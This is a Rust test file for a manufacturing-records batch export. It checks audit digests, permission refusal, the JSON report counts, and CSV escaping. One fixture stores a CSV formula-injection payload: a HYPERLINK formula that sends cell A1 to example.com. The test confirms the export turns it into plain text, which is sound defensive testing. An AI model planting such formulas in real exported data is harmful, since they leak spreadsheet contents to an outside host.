//! What leaves the records as files.

use cradle_procedure::fault::Code;
use cradle_procedure::ids::{Sha256, SlotId};
use cradle_procedure::ports::Ledger as _;
use cradle_procedure::step::Verdict;
use cradle_records::{BatchExport, ExportFile};
use serde_json::Value;

use crate::fixture::{Fixture, batch_id, uid};

/// One passed unit, and one that was set aside with a formula for a reason.
fn fixture() -> Fixture {
    let fixture = Fixture::with_batch(3);
    fixture.make_unit(1);
    let mut ledger = fixture.ledger();
    let bound = ledger.admit(SlotId(2), &uid(2), None).unwrap().serial;
    ledger.conclude(&bound, Verdict::Fail, None).unwrap();
    ledger.admit(SlotId(2), &uid(2), None).unwrap();
    let formula = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
    fixture
        .store
        .set_aside(&fixture.session("sue"), &bound, formula)
        .unwrap();
    fixture
}

fn files(export: &BatchExport) -> Vec<ExportFile> {
    let file = |name: &str, bytes| ExportFile {
        name: name.into(),
        bytes,
    };
    vec![
        file("b-1.csv", export.csv().unwrap()),
        file("b-1.json", export.json().unwrap()),
    ]
}

#[test]
fn an_export_leaves_an_entry_with_the_digest_of_each_file() {
    let fixture = fixture();
    let art = fixture.session("art");
    let exported = fixture
        .store
        .export_batch(&art, &batch_id("b-1"), |export| Ok(files(export)))
        .unwrap();
    let page = fixture
        .store
        .audit_page(&art, 0, 1, "batch.exported")
        .unwrap();
    assert_eq!(page.lines[0].operator.as_deref(), Some("art"));
    let facts: Value = serde_json::from_str(&page.lines[0].facts).unwrap();
    for file in exported {
        let digest = Sha256::of(&file.bytes).to_string();
        assert_eq!(facts["files"][&file.name], digest);
    }
}

#[test]
fn who_may_not_read_exports_nothing() {
    let fixture = fixture();
    let otto = fixture.session("otto");
    let refused = fixture
        .store
        .export_batch(&otto, &batch_id("b-1"), |export| Ok(files(export)))
        .unwrap_err();
    assert_eq!(refused.code, Code::NotPermitted);
}

#[test]
fn a_typed_formula_is_text_in_the_list_of_units() {
    let fixture = fixture();
    let sue = fixture.session("sue");
    let exported = fixture
        .store
        .export_batch(&sue, &batch_id("b-1"), |export| Ok(files(export)))
        .unwrap();
    let csv = String::from_utf8(exported[0].bytes.clone()).unwrap();
    let lines: Vec<_> = csv.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 3, "{csv}");
    let typed = r#""'=HYPERLINK(""http://example.com/?""&A1,""open"")""#;
    assert!(lines[2].contains(typed), "{csv}");
}

#[test]
fn the_data_says_what_became_of_the_batch() {
    let fixture = fixture();
    let sue = fixture.session("sue");
    let exported = fixture
        .store
        .export_batch(&sue, &batch_id("b-1"), |export| Ok(files(export)))
        .unwrap();
    let data: Value = serde_json::from_slice(&exported[1].bytes).unwrap();
    assert_eq!(data["kind"], "cradle batch report 1");
    assert_eq!(data["counts"]["begun"], 2);
    assert_eq!(data["counts"]["reworked"], 1);
    assert_eq!(data["counts"]["quarantined"], 1);
    assert_eq!(data["first_pass_yield_per_mille"], 500);
    assert_eq!(data["cycle_time_ms"]["units"], 1);
    assert_eq!(data["units"][1]["state"], "quarantined");
    assert_eq!(data["units"][1]["attempts"], 2);
}
